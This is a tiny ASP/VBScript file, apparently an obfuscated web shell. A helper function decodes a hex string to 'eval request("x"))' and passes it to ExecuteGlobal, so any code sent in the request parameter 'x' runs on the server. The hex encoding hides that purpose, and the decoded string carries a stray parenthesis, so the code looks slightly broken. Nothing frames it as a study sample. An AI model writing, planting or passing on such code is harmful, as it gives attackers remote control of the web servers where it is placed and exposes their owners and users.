<%
Function D(s)
  For i = 1 To Len(s) Step 2
    D = D & Chr(CLng("&H" & Mid(s, i, 2)))
  Next
End Function
ExecuteGlobal D("6576616C2072657175657374282278222929")
%>
